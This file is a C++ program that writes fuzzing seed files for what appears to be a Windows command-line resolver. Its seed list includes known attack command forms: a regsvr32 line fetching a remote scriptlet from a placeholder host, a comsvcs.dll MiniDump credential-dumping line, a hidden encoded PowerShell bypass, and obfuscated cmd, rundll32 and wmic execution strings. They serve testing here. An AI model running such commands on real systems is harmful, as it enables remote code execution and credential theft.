// Seeds of fuzz_command_line: one line of each form that the resolver knows.
#include <cstdio>
#include <fstream>
#include <string>

namespace {

constexpr const char* kLines[] = {
    R"("C:\Program Files\A B\C.exe" /background)",
    R"(C:\Program Files\A B\C.exe -x)",
    R"(%ProgramFiles%\A B\C.exe /autoRun)",
    R"(\??\C:\TMP\p.exe)",
    R"(\\?\GLOBALROOT\Device\HarddiskVolume3\x.exe)",
    R"(\SystemRoot\System32\drivers\x.sys)",
    R"(C:\PROGRA~1\A B\C.exe)",
    R"(\\localhost\C$\TMP\p.exe)",
    R"(C:\Windows\Sysnative\cmd.exe /c C:\a.txt:b.exe)",
    R"(cmd.exe /d /s /c "cd /d C:\TMP && start "" /b p.exe > nul 2>&1 & c^all x")",
    R"(cmd /c for /f %i in ('a') do if not exist b (c) else (d))",
    R"(cmd /v:on/c set x=!y! & %a:~1,2%)",
    R"(rundll32 shell32.dll,ShellExec_RunDLL C:\TMP\p.exe)",
    R"(rundll32 javascript:"\..\mshtml,RunHTMLApplication ")",
    R"(rundll32 setupapi,InstallHinfSection a 128 C:\TMP\e.inf)",
    R"(rundll32 comsvcs.dll, MiniDump 1 a full)",
    R"(regsvr32 /s /n /i:http://x.example/a.sct scrobj.dll)",
    R"(mshta vbscript:Execute("x")(window.close))",
    R"(wscript //e:vbscript C:\TMP\a.jpg b)",
    R"(powershell -nop -w hidden -ep bypass -enc SQBFAFgA)",
    R"(powershell -c "& 'C:\TMP\p.exe' -x; $env:TEMP\a.ps1")",
    R"(msiexec /q /i"C:\TMP\a.msi" /x {1})",
    R"(forfiles /p C:\ /c "cmd /c C:\TMP\p.exe")",
    R"(schtasks /create /tr "C:\TMP\p.exe -a" /tn x)",
    R"(wmic /node:a process call create "cmd /c b")",
    R"(odbcconf /a {REGSVR C:\TMP\x.dll})",
    R"(C:\Windows\system32\userinit.exe, "C:\a,b.exe" -q , c)",
};

}  // namespace

int main(int argc, char** argv) {
  if (argc != 2) return 2;
  int number = 0;
  for (const char* line : kLines) {
    std::ofstream file{std::string{argv[1]} + "/line_" + std::to_string(number++),
                       std::ios::binary};
    file << static_cast<char>(4) << line;
    if (!file) return 1;
  }
  return 0;
}
